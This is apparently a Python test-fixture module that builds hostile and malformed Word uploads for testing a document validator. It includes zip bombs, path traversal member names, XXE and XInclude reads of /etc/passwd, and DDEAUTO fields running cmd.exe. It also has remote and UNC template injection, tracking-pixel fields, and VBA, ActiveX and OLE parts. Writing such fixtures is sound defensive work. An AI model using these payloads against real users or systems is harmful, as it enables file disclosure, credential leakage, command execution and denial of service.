"""Hostile and broken uploads, built from a small valid python-docx document.

Each public function returns the bytes of one bad file. Byte-level surgery (names with a NUL,
the zip encryption flag, lying sizes, overlapping entries) is done on the zip records directly,
since zipfile refuses to write such archives.
"""

from __future__ import annotations

import functools
import io
import os
import struct
import zipfile
import zlib

import docx
from PIL import Image

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
COMMENTS_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"
DOC = "word/document.xml"
DOC_RELS = "word/_rels/document.xml.rels"
CT = "[Content_Types].xml"


# --- valid inputs -------------------------------------------------------------------------------


@functools.cache
def valid_docx() -> bytes:
    document = docx.Document()
    document.add_heading("Draft resolution", level=1)
    document.add_paragraph("Article 1. This resolution takes effect on 1 January 2030.")
    return _save(document)


def small_png(width: int = 8, height: int = 8) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buf, format="PNG")
    return buf.getvalue()


@functools.cache
def docx_with_comment_and_image() -> bytes:
    document = docx.Document()
    paragraph = document.add_paragraph("Article 2. The ministry reports yearly.")
    document.add_comment(paragraph.runs, text="Say which ministry.", author="Ministry of Finance")
    document.add_picture(io.BytesIO(small_png()))
    return _save(document)


def _save(document: docx.document.Document) -> bytes:
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


# --- package surgery ----------------------------------------------------------------------------


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {info.filename: z.read(info) for info in z.infolist()}


def build_zip(
    parts: dict[str, bytes] | list[tuple[str, bytes]],
    method: int = zipfile.ZIP_DEFLATED,
    methods: dict[str, int] | None = None,
) -> bytes:
    """A zip of `parts` in order; `methods` overrides the compression of single members."""
    items = parts.items() if isinstance(parts, dict) else parts
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, body in items:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = (methods or {}).get(name, method)
            z.writestr(info, body)
    return buf.getvalue()


def with_named_parts(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """`data` with parts replaced, added (new names go last) or removed (value None)."""
    parts = parts_of(data)
    for name, body in changes.items():
        if body is None:
            parts.pop(name, None)
        else:
            parts[name] = body
    return build_zip(parts)


def _edit(data: bytes, name: str, old: str, new: str) -> bytes:
    body = parts_of(data)[name].decode()
    assert old in body, f"{old!r} not in {name}"
    return with_named_parts(data, {name: body.replace(old, new, 1).encode()})


def _add_override(data: bytes, part: str, content_type: str, body: bytes) -> bytes:
    ct = (
        parts_of(data)[CT]
        .decode()
        .replace("</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>')
    )
    return with_named_parts(data, {CT: ct.encode(), part: body})


def _add_relationship(data: bytes, rels_part: str, rel_type: str, target: str) -> bytes:
    rel = (
        f'<Relationship Id="rId900" Type="{R_NS}/{rel_type}" Target="{target}" '
        'TargetMode="External"/>'
    )
    existing = parts_of(data).get(rels_part)
    body = (existing or f'<Relationships xmlns="{REL_NS}"></Relationships>'.encode()).decode()
    return with_named_parts(
        data, {rels_part: body.replace("</Relationships>", rel + "</Relationships>").encode()}
    )


def _central_entries(data: bytes) -> tuple[int, list[int]]:
    """(offset of the end record, offsets of each central directory entry)."""
    eocd = data.rfind(b"PK\x05\x06")
    count, _, cd_offset = struct.unpack_from("<HII", data, eocd + 10)
    offsets, pos = [], cd_offset
    for _ in range(count):
        offsets.append(pos)
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + 28)
        pos += 46 + name_len + extra_len + comment_len
    return eocd, offsets


def _entry_named(data: bytes, name: str) -> tuple[int, int]:
    """(central directory entry offset, local header offset) of member `name`."""
    _, offsets = _central_entries(data)
    for pos in offsets:
        name_len = struct.unpack_from("<H", data, pos + 28)[0]
        if data[pos + 46 : pos + 46 + name_len] == name.encode():
            return pos, struct.unpack_from("<I", data, pos + 42)[0]
    raise KeyError(name)


def _patch(data: bytes, fmt: str, at: list[int], value: int) -> bytes:
    out = bytearray(data)
    for pos in at:
        struct.pack_into(fmt, out, pos, value)
    return bytes(out)


# --- not a zip ----------------------------------------------------------------------------------


def empty_file() -> bytes:
    return b""


def random_bytes() -> bytes:
    return os.urandom(4096).replace(b"PK", b"QK").replace(b"\xd0\xcf", b"\xd1\xcf")


def pdf_file() -> bytes:
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def oversized_file() -> bytes:
    """Just over the default 50 MB limit; refused on its length before anything else."""
    return b"PK\x03\x04" + bytes(50 * 1024 * 1024)


def truncated_zip() -> bytes:
    data = valid_docx()
    return data[: len(data) // 2]


def compound_file(streams: list[str]) -> bytes:
    """A minimal OLE compound file (MS-CFB v3): header, one FAT sector, one directory sector."""
    free, end, fat_sector = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 4096, end, 0, end, 0)
    struct.pack_into("<109I", header, 76, 0, *([free] * 108))
    fat = struct.pack("<128I", fat_sector, end, *([free] * 126))

    def entry(name: str, kind: int, child: int = free, right: int = free) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        record = bytearray(128)
        record[: len(raw)] = raw
        struct.pack_into("<HBBIII", record, 64, len(raw), kind, 1, free, right, child)
        struct.pack_into("<II", record, 116, end, 0)  # start sector, size
        return bytes(record)

    names = ["Root Entry", *streams]
    entries = [entry(names[0], 5, child=1)]
    for i, name in enumerate(streams, start=1):
        entries.append(entry(name, 2, right=i + 1 if i < len(streams) else free))
    directory = b"".join(entries).ljust(512, b"\0")
    return bytes(header) + fat + directory


def legacy_doc() -> bytes:
    return compound_file(["WordDocument", "1Table", "\x05SummaryInformation"])


def encrypted_docx() -> bytes:
    return compound_file(["\x06DataSpaces", "EncryptionInfo", "EncryptedPackage"])


def legacy_xls() -> bytes:
    return compound_file(["Workbook", "\x05SummaryInformation"])


# --- zip container attacks ----------------------------------------------------------------------


def zip_bomb() -> bytes:
    """A 24 MB document.xml that deflates to some 25 KB (ratio about 1000:1)."""
    body = (
        f'<w:document xmlns:w="{W_NS}"><w:body>'.encode()
        + b"<w:p/>" * (4 * 1024 * 1024)
        + b"</w:body></w:document>"
    )
    return with_named_parts(valid_docx(), {DOC: body})


def too_many_members() -> bytes:
    parts = list(parts_of(valid_docx()).items())
    parts += [(f"word/media/pad{i}.txt", b"") for i in range(2001)]
    return build_zip(parts)


def overlapping_entries() -> bytes:
    """A second directory entry pointing at document.xml's bytes under another name."""
    data = valid_docx()
    eocd, _ = _central_entries(data)
    pos, _ = _entry_named(data, DOC)
    name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + 28)
    clone = bytearray(data[pos : pos + 46 + name_len + extra_len + comment_len])
    clone[46 : 46 + name_len] = b"word/overlap.xml".ljust(name_len, b"x")[:name_len]
    end = bytearray(data[eocd:])
    count = struct.unpack_from("<H", end, 10)[0] + 1
    cd_size = struct.unpack_from("<I", end, 12)[0] + len(clone)
    struct.pack_into("<HHI", end, 8, count, count, cd_size)
    return data[:eocd] + bytes(clone) + bytes(end)


def lying_size() -> bytes:
    """document.xml declares 100 bytes but holds more: reading stops there and fails the CRC."""
    data = valid_docx()
    central, local = _entry_named(data, DOC)
    return _patch(data, "<I", [central + 24, local + 22], 100)


def zip_encryption_flag() -> bytes:
    data = valid_docx()
    central, local = _entry_named(data, DOC)
    flags = struct.unpack_from("<H", data, central + 8)[0] | 0x1
    return _patch(data, "<H", [central + 8, local + 6], flags)


def bzip2_member() -> bytes:
    return build_zip(parts_of(valid_docx()), methods={DOC: zipfile.ZIP_BZIP2})


def lzma_member() -> bytes:
    return build_zip(parts_of(valid_docx()), methods={DOC: zipfile.ZIP_LZMA})


def traversal_name() -> bytes:
    return with_named_parts(valid_docx(), {"../../etc/cron.d/evil.xml": b"<x/>"})


def absolute_name() -> bytes:
    return with_named_parts(valid_docx(), {"/etc/evil.xml": b"<x/>"})


def backslash_traversal_name() -> bytes:
    return with_named_parts(valid_docx(), {"word\\..\\..\\evil.xml": b"<x/>"})


def backslash_name() -> bytes:
    return with_named_parts(valid_docx(), {"word\\evil.xml": b"<x/>"})


def nul_in_name() -> bytes:
    data = with_named_parts(valid_docx(), {"word/evilX.xml": b"<x/>"})
    return data.replace(b"word/evilX.xml", b"word/evil\x00.xml")


def duplicate_names() -> bytes:
    parts = list(parts_of(valid_docx()).items())
    parts.append(("Word/Document.xml", parts_of(valid_docx())[DOC]))
    return build_zip(parts)


# --- not a Word document ------------------------------------------------------------------------


def missing_document_xml() -> bytes:
    return with_named_parts(valid_docx(), {DOC: None})


def missing_content_types() -> bytes:
    return with_named_parts(valid_docx(), {CT: None})


def plain_zip() -> bytes:
    return build_zip({"notes.txt": b"minutes of the meeting", "photo.txt": b"..."})


def xlsx_renamed() -> bytes:
    sheet_ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return build_zip(
        {
            CT: (
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="rels" '
                'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                f'<Override PartName="/xl/workbook.xml" ContentType="{sheet_ct}"/></Types>'
            ).encode(),
            "_rels/.rels": (
                f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" '
                f'Type="{R_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
            ).encode(),
            "xl/workbook.xml": (
                b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b"<sheets/></workbook>"
            ),
        }
    )


def odt_renamed() -> bytes:
    return build_zip(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            (
                "content.xml",
                b'<office:document-content xmlns:office="urn:oasis:names:tc:'
                b'opendocument:xmlns:office:1.0"/>',
            ),
            ("META-INF/manifest.xml", b"<manifest/>"),
        ],
        methods={"mimetype": zipfile.ZIP_STORED},
    )


# --- XML attacks --------------------------------------------------------------------------------

_BODY = (
    f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>{{}}</w:t></w:r></w:p></w:body>'
    "</w:document>"
)


def xxe_entity() -> bytes:
    body = '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return with_named_parts(valid_docx(), {DOC: (body + _BODY.format("&xxe;")).encode()})


def billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10)
    )
    body = f'<?xml version="1.0"?><!DOCTYPE w:document [{entities}]>' + _BODY.format("&lol9;")
    return with_named_parts(valid_docx(), {DOC: body.encode()})


def dtd_only() -> bytes:
    body = '<?xml version="1.0"?><!DOCTYPE w:document SYSTEM "http://example.invalid/w.dtd">'
    return with_named_parts(valid_docx(), {DOC: (body + _BODY.format("text")).encode()})


def malformed_xml() -> bytes:
    body = parts_of(valid_docx())["word/styles.xml"]
    return with_named_parts(valid_docx(), {"word/styles.xml": body[: len(body) // 2]})


# --- active content -----------------------------------------------------------------------------


def docm_content_type() -> bytes:
    return _edit(
        valid_docx(), CT, MAIN_CT, "application/vnd.ms-word.document.macroEnabled.main+xml"
    )


def vba_project_present() -> bytes:
    return with_named_parts(valid_docx(), {"word/vbaProject.bin": compound_file(["VBA"])})


def activex_control() -> bytes:
    return _add_override(
        valid_docx(),
        "word/activeX/activeX1.xml",
        "application/vnd.ms-office.activeX+xml",
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
    )


def embedded_ole_object() -> bytes:
    return _add_override(
        valid_docx(),
        "word/embeddings/oleObject1.bin",
        "application/vnd.openxmlformats-officedocument.oleObject",
        compound_file(["\x01Ole10Native"]),
    )


def remote_template() -> bytes:
    return _add_relationship(
        valid_docx(),
        "word/_rels/settings.xml.rels",
        "attachedTemplate",
        "https://templates.example.invalid/normal.dotm",
    )


def unc_template() -> bytes:
    return _add_relationship(
        valid_docx(),
        "word/_rels/settings.xml.rels",
        "attachedTemplate",
        "\\\\203.0.113.9\\t\\a.dotm",
    )


def local_template() -> bytes:
    """Valid: Word records the template a document was made from on the author's disk."""
    return _add_relationship(
        valid_docx(),
        "word/_rels/settings.xml.rels",
        "attachedTemplate",
        "file:///C:\\Users\\clerk\\AppData\\Roaming\\Microsoft\\Templates\\Decree.dotx",
    )


def external_hyperlink() -> bytes:
    """Valid: a hyperlink is followed only when a reader clicks it."""
    return _add_relationship(valid_docx(), DOC_RELS, "hyperlink", "https://example.org/law")


def external_image() -> bytes:
    return _add_relationship(valid_docx(), DOC_RELS, "image", "http://example.invalid/pixel.png")


# --- oversized content --------------------------------------------------------------------------


def png_header(width: int, height: int) -> bytes:
    """A PNG signature and IHDR claiming `width` x `height`, with no pixel data at all."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", len(ihdr)) + b"IHDR" + ihdr
    chunk += struct.pack(">I", zlib.crc32(b"IHDR" + ihdr))
    iend = struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))
    return b"\x89PNG\r\n\x1a\n" + chunk + iend


def _replace_image(png: bytes) -> bytes:
    data = docx_with_comment_and_image()
    media = [n for n in parts_of(data) if n.startswith("word/media/")]
    return with_named_parts(data, {media[0]: png})


def image_pixel_bomb() -> bytes:
    return _replace_image(png_header(100_000, 100_000))


def image_over_limit() -> bytes:
    """81 million pixels: over the default limit, under Pillow's own bomb threshold."""
    return _replace_image(png_header(9_000, 9_000))


def too_many_comments(count: int = 5001) -> bytes:
    comment = '<w:comment w:id="{}" w:author="A"><w:p><w:r><w:t>c</w:t></w:r></w:p></w:comment>'
    body = (
        f'<w:comments xmlns:w="{W_NS}">'
        + "".join(comment.format(i) for i in range(count))
        + "</w:comments>"
    )
    data = docx_with_comment_and_image()
    return with_named_parts(data, {"word/comments.xml": body.encode()})


def broken_compound_file() -> bytes:
    """OLE magic, but the directory lives in a sector past the end of the file."""
    data = bytearray(legacy_doc())
    struct.pack_into("<I", data, 48, 4000)
    return bytes(data)


def embedded_workbook() -> bytes:
    """Valid: a chart's data travels as an embedded .xlsx package."""
    return _add_override(
        valid_docx(),
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        xlsx_renamed(),
    )


def compressible_styles() -> bytes:
    """Valid: 900 KB of repetitive XML deflates far beyond 100:1 but is below the ratio floor."""
    body = f'<w:webSettings xmlns:w="{W_NS}">' + " " * 900_000 + "</w:webSettings>"
    return with_named_parts(valid_docx(), {"word/webSettings.xml": body.encode()})


# --- issue 16: kinds that were stored before (big ones streamed, built once per process) --------

_BLOCK = 1024 * 1024


def _streamed_zip(base: bytes, big: dict[str, tuple[bytes, int]], level: int = 1) -> bytes:
    """`base`'s parts plus members made of `block` repeated to `size` bytes, deflated as they
    are written (nothing of `size` is ever held in memory)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, body in parts_of(base).items():
            if name not in big:
                z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), body)
        for name, (block, size) in big.items():
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            with z.open(info, "w", force_zip64=True) as out:
                written = 0
                while written < size:
                    piece = block[: size - written]
                    out.write(piece)
                    written += len(piece)
    return buf.getvalue()


def _numbered_xml(count: int, template: str) -> bytes:
    return "".join(template.format(i) for i in range(count)).encode()


@functools.cache
def many_small_members() -> bytes:
    """1,900 parts of 100 KB each, each under the per-part ratio floor, 190 MB in all."""
    parts = list(parts_of(valid_docx()).items())
    filler = b"<x>" + b" " * (100 * 1024) + b"</x>"
    parts += [(f"word/pad{i}.xml", filler) for i in range(1900)]
    return build_zip(parts)


@functools.cache
def big_document_ratio_90() -> bytes:
    """A 290 MB document.xml at a compression ratio under 100, streamed."""
    paragraph = (
        "<w:p><w:r><w:t>Điều {}. Bộ, cơ quan ngang bộ báo cáo Chính phủ hằng năm về kết quả "
        "thực hiện Nghị quyết này.</w:t></w:r></w:p>"
    )
    block = _numbered_xml(8000, paragraph)[:_BLOCK]
    return _streamed_zip(valid_docx(), {DOC: (block, 290 * 1024 * 1024)})


@functools.cache
def nested_zip_bomb() -> bytes:
    """A chart workbook (declared as such) whose own part unpacks to 300 MB of zeros."""
    inner = _streamed_zip(xlsx_renamed(), {"xl/bomb.xml": (bytes(_BLOCK), 300 * 1024 * 1024)}, 9)
    return _add_override(
        valid_docx(),
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        inner,
    )


def symlink_member() -> bytes:
    """A member whose zip external attributes make it a symbolic link to /etc/passwd."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts_of(valid_docx()).items():
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), body)
        link = zipfile.ZipInfo("word/link.xml", date_time=(1980, 1, 1, 0, 0, 0))
        link.create_system = 3  # Unix
        link.external_attr = (0o120777) << 16  # S_IFLNK | rwxrwxrwx
        z.writestr(link, "/etc/passwd")
    return buf.getvalue()


def _in_body(xml: str) -> bytes:
    """valid_docx with `xml` as the first thing of the body (namespaces w, r and a declared)."""
    body = (
        f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body>'
        f"{xml}<w:p><w:r><w:t>Điều 1.</w:t></w:r></w:p></w:body></w:document>"
    )
    return with_named_parts(valid_docx(), {DOC: body.encode()})


def xinclude() -> bytes:
    return _in_body(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
        'parse="text"/>'
    )


def _complex_field(*instructions: str) -> str:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{i}</w:instrText></w:r>' for i in instructions
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def ddeauto_field() -> bytes:
    return _in_body(_complex_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))


def dde_field_split() -> bytes:
    """The keyword split over two runs, as Word does after an edit."""
    return _in_body(_complex_field(" DD", 'E "excel" "c:\\\\book.xls" "R1C1"'))


def dde_simple_field() -> bytes:
    return _in_body(
        '<w:p><w:fldSimple w:instr=\'DDE "cmd" "/c calc"\'>'
        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
    )


def includepicture_url() -> bytes:
    return _in_body(_complex_field('INCLUDEPICTURE "http://198.51.100.7/track.png" \\\\d'))


def includetext_unc() -> bytes:
    return _in_body(_complex_field('INCLUDETEXT "\\\\\\\\203.0.113.9\\\\share\\\\a.docx"'))


def image_through_hyperlink() -> bytes:
    """A picture whose r:embed names an external hyperlink relationship: Word fetches it."""
    data = _add_relationship(
        docx_with_comment_and_image(), DOC_RELS, "hyperlink", "http://198.51.100.7/pixel.png"
    )
    body = parts_of(data)[DOC].decode()
    start = body.index('r:embed="') + len('r:embed="')
    end = body.index('"', start)
    return with_named_parts(data, {DOC: (body[:start] + "rId900" + body[end:]).encode()})


def undeclared_vba_part() -> bytes:
    """A VBA project under another name, with no content type and no relationship."""
    return with_named_parts(valid_docx(), {"word/vbaProject1.bin": compound_file(["VBA"])})


def vba_relationship() -> bytes:
    """A VBA project declared as a plain binary but linked with a vbaProject relationship."""
    data = _add_override(
        valid_docx(), "word/macros.bin", "application/octet-stream", compound_file(["VBA"])
    )
    rels = (
        parts_of(data)[DOC_RELS]
        .decode()
        .replace(
            "</Relationships>",
            '<Relationship Id="rId901" Type="http://schemas.microsoft.com/office/2006/relationships/'
            'vbaProject" Target="macros.bin"/></Relationships>',
        )
    )
    return with_named_parts(data, {DOC_RELS: rels.encode()})


def undeclared_image_bomb() -> bytes:
    return with_named_parts(valid_docx(), {"word/media/image9.bin": png_header(100_000, 100_000)})


@functools.cache
def million_paragraphs() -> bytes:
    """10^6 numbered paragraphs (3 x 10^6 elements, some 60 MB of XML)."""
    head = f'<w:document xmlns:w="{W_NS}"><w:body>'.encode()
    paragraphs = _numbered_xml(1_000_000, "<w:p><w:r><w:t>Khoản {}.</w:t></w:r></w:p>")
    body = head + paragraphs + b"</w:body></w:document>"
    return with_named_parts(valid_docx(), {DOC: body})


@functools.cache
def single_run_50mb() -> bytes:
    """One w:t of 50 MB of varied words (a 1 MB block repeated, beyond deflate's window)."""
    words = _numbered_xml(120_000, "lorem{} ipsum ")[:_BLOCK]
    head = f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>'.encode()
    tail = b"</w:t></w:r></w:p></w:body></w:document>"
    parts = parts_of(valid_docx())
    parts.pop(DOC)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for name, body in parts.items():
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), body)
        info = zipfile.ZipInfo(DOC, date_time=(1980, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as out:
            out.write(head)
            for _ in range(50):
                out.write(words)
            out.write(tail)
    return buf.getvalue()


@functools.cache
def custom_xml_100mb() -> bytes:
    block = _numbered_xml(80_000, "<v>{}</v>")[:_BLOCK]
    return _streamed_zip(valid_docx(), {"customXml/item2.xml": (block, 100 * 1024 * 1024)})


def tables_nested_1000_deep() -> bytes:
    opening = "<w:tbl><w:tr><w:tc>" * 1000
    closing = "<w:p/></w:tc></w:tr></w:tbl>" + "</w:tc></w:tr></w:tbl>" * 999
    return _in_body(opening + closing)


def sparse_file(path: str, size: int = 1024**3) -> None:
    """A 1 GB file that starts like a zip and takes no disk space (a sparse file)."""
    with open(path, "wb") as out:
        out.write(b"PK\x03\x04")
        out.truncate(size)


def embedded_fake_workbook() -> bytes:
    """Declared as a chart's workbook, but not a package at all."""
    return _add_override(
        valid_docx(),
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        b"MZ\x90\x00 this is a program, not a workbook",
    )
